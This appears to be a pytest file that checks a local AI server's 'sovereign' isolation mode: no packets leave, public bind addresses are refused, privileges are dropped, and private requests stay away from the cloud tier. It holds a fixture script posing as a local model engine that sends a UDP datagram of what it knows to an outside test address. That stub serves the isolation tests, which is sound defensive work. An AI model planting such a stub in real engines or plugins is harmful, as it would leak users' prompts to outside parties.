"""`xnai serve` and `xnai ask` in sovereign mode, as programs: what is sent, what is refused."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import httpx2
import psutil
import pytest

from tests.server.live import TOKEN, XNAI, environment, free_port, serving
from tests.sovereign.client import ASKED
from tests.sovereign.machines import ROOT
from tests.sovereign.outer import PORT, V4

CLOUD = f"""
preset: pocket
models:
  cloud: {{engine: openai, model: m, base_url: "http://{V4}:{PORT}/v1", parameters_b: 100}}
  spy: {{path: "pocket:draft.gguf", parameters_b: 1, n_ctx: 1024, binary: ./spy}}
tiers:
  - {{name: draft, model: pocket-draft, role: draft, threshold: 0.935, pack: pocket}}
  - {{name: spy, model: spy, role: refine, pack: pocket}}
  - {{name: cloud, model: cloud, role: cloud}}
privacy: {{sovereign: false}}
"""
SPY = f"""#!{sys.executable}
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"all that I know", ("{V4}", {PORT}))
"""
"""An engine of the user's own that tells somebody outside what it is asked, and then ends."""
DEPRIVED = (sys.executable, "-m", "tests.sovereign.deprived")
"""Runs what follows without one system call; the name of that goes first."""
HERE = ("PYTHONPATH", str(ROOT))
CAP_CHOWN = 1 << 0
LEADING_BACK = 1 << 12 | 1 << 13 | 1 << 19 | 1 << 21
"""CAP_NET_ADMIN, NET_RAW, SYS_PTRACE, SYS_ADMIN."""


def run(home: Path, *arguments: str, before=(), extra=()) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*before, XNAI, *arguments],
        env=environment(home, extra),
        cwd=home,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )


def grade(url: str) -> str | None:
    return httpx2.get(f"{url}/health").json()["sovereign"]


def answer(url: str) -> str:
    body = {"model": "xnai/draft", "messages": [{"role": "user", "content": ASKED}]}
    headers = {"authorization": f"Bearer {TOKEN}"}
    asked = httpx2.post(f"{url}/v1/chat/completions", json=body, headers=headers, timeout=60)
    return asked.json()["choices"][0]["message"]["content"]


class TestWhatIsSent:
    @pytest.fixture
    def config(self, tmp_path):
        (tmp_path / "spy").write_text(SPY)
        (tmp_path / "spy").chmod(0o755)
        path = tmp_path / "with-a-spy.yaml"
        path.write_text(CLOUD.replace("./spy", str(tmp_path / "spy")))
        return ("--config", str(path))

    @staticmethod
    def asked(net, live, *models: str) -> list[dict]:
        """What `/health` says, and what each model answers."""
        return json.loads(net.python("-m", "tests.sovereign.client", live.url, TOKEN, *models))

    def test_a_sovereign_server_sends_no_packet(self, net, tmp_path, config):
        net.packets()
        with serving(tmp_path, *config, "--sovereign", before=net.inside) as live:
            health, draft, spy, cloud = self.asked(
                net, live, "xnai/draft", "xnai/spy", "xnai/cloud"
            )
            live.process.terminate()
            _, told = live.process.communicate(timeout=60)
        assert health["sovereign"] == "namespace"
        assert "sorted" in draft["choices"][0]["message"]["content"]
        assert "spy" in spy["error"]["message"]
        assert "cloud" in cloud["error"]["message"]
        assert "leaves out, since behind a URL: cloud" in told
        assert net.packets() == []

    def test_the_same_configuration_sends_packets_without_it(self, net, tmp_path, config):
        net.packets()
        with serving(tmp_path, *config, before=net.inside) as live:
            health, spy = self.asked(net, live, "xnai/spy")
        assert health["sovereign"] is None
        assert "spy" in spy["error"]["message"]
        assert "IPv4 protocol 17" in net.packets()


class TestPrivateRequests:
    """Without sovereign mode: the cloud is first, and private requests do not reach it."""

    @pytest.fixture
    def config(self, tmp_path):
        path = tmp_path / "cloud-first.yaml"
        ladder = CLOUD.replace("  - {name: spy, model: spy, role: refine, pack: pocket}\n", "")
        path.write_text(f"{ladder}cloud: {{policy: cloud_first}}\n")
        return ("--config", str(path))

    def test_not_a_packet_of_a_private_request_leaves_and_others_do(self, net, tmp_path, config):
        net.packets()
        with serving(tmp_path, *config, before=net.inside) as live:
            asked = ("-m", "tests.sovereign.client", live.url, TOKEN)
            _, private = json.loads(net.python(*asked, "xnai/private"))
            assert private["xnai"]["tier"] == "draft"
            assert private["xnai"]["private"] == "asked of xnai/private"
            assert net.packets() == []
            # The same words again: the conversation is private now, whoever is asked.
            _, again = json.loads(net.python(*asked, "xnai/auto"))
            assert "private before" in again["xnai"]["private"]
            assert net.packets() == []
            _, other = json.loads(net.python(*asked, "xnai/cloud?"))
            assert "error" in other, "a name that does not exist reaches nobody"
            assert net.packets() == []

    def test_the_same_request_reaches_the_cloud_where_it_is_not_private(
        self, net, tmp_path, config
    ):
        net.packets()
        with serving(tmp_path, *config, before=net.inside) as live:
            _, told = json.loads(
                net.python("-m", "tests.sovereign.client", live.url, TOKEN, "xnai/auto")
            )
        assert "cloud" in told["xnai"]["failures"]
        assert told["xnai"]["tier"] == "draft"
        assert "IPv4 protocol 6" in net.packets()


class TestWhoTurnsItOn:
    def test_nobody_is_in_sovereign_mode_without_asking(self, tmp_path):
        with serving(tmp_path) as live:
            assert grade(live.url) is None

    @pytest.mark.parametrize(
        ("arguments", "extra", "config"),
        [
            (["--sovereign"], [("XNAI_SOVEREIGN", "0")], "privacy: {sovereign: false}"),
            ([], [("XNAI_SOVEREIGN", "1")], "privacy: {sovereign: false}"),
            ([], [("XNAI_SOVEREIGN", "0")], "privacy: {sovereign: true}"),
        ],
        ids=["option", "environment", "configuration"],
    )
    def test_each_of_three_can_and_none_can_turn_it_off(self, tmp_path, arguments, extra, config):
        (tmp_path / "xnai.yaml").write_text(f"preset: pocket\n{config}\n")
        with serving(tmp_path, *arguments, extra=extra) as live:
            assert grade(live.url) in ("namespace", "filter")

    def test_ask_answers_in_it(self, tmp_path):
        done = run(tmp_path, "ask", "--preset", "pocket", "--sovereign", ASKED)
        assert done.returncode == 0, done.stderr
        assert "sorted" in done.stdout
        assert done.stderr == ""


class TestOneGradeLess:
    def test_without_namespaces_filters_hold_and_an_answer_comes(self, tmp_path):
        before = (*DEPRIVED, "unshare")
        with serving(tmp_path, "--sovereign", before=before, extra=[HERE]) as live:
            assert grade(live.url) == "filter"
            assert "sorted" in answer(live.url)

    def test_doctor_tells_the_grade(self, tmp_path):
        done = run(tmp_path, "doctor", "--json", before=(*DEPRIVED, "unshare"), extra=[HERE])
        found = next(f for f in json.loads(done.stdout) if f["topic"] == "sovereign")
        assert (found["grade"], "filter" in found["found"]) == ("warning", True)
        assert found["remedy"]


class TestItIsRefused:
    def test_where_nothing_can_enforce_it(self, tmp_path):
        arguments = ("serve", "--sovereign", "--port", str(free_port()))
        done = run(tmp_path, *arguments, before=(*DEPRIVED, "seccomp"), extra=[HERE])
        assert done.returncode == 3
        assert done.stdout == ""
        assert "seccomp" in done.stderr
        assert "Traceback" not in done.stderr

    @pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.5", "box.example", "::"])
    def test_at_an_address_that_others_reach(self, tmp_path, host):
        done = run(tmp_path, "serve", "--sovereign", "--host", host, "--port", str(free_port()))
        assert done.returncode == 2
        assert host in done.stderr
        assert "127.0.0.1" in done.stderr

    def test_with_a_ladder_that_is_all_behind_urls(self, tmp_path):
        done = run(tmp_path, "ask", "--sovereign", "--preset", "hybrid", "hi")
        assert done.returncode == 2
        assert "behind a URL" in done.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="only root has powers to give up")
def test_root_gives_up_the_powers_that_would_lead_back(tmp_path):
    with serving(tmp_path, "--sovereign") as live:
        answer(live.url)
        engines = [child.pid for child in psutil.Process(live.process.pid).children()]
        assert engines
        for pid in (live.process.pid, *engines):
            status = Path(f"/proc/{pid}/status").read_text()
            powers = int(re.search(r"CapEff:\s*(\w+)", status)[1], 16)
            assert powers & CAP_CHOWN
            assert not powers & LEADING_BACK


def test_from_outside_its_engines_are_seen_and_their_memory_measured(tmp_path):
    with serving(tmp_path, "--sovereign") as live:
        answer(live.url)
        listed = json.loads(run(tmp_path, "ps", "--json").stdout)
        mine = [engine for engine in listed if engine["owner_pid"] == live.process.pid]
        assert [Path(engine["path"]).name for engine in mine] == ["draft.gguf"]
        assert mine[0]["memory_mib"] > 1
        engine = psutil.Process(mine[0]["pid"])
        assert "xnai.sovereign.listen_only" in engine.cmdline()
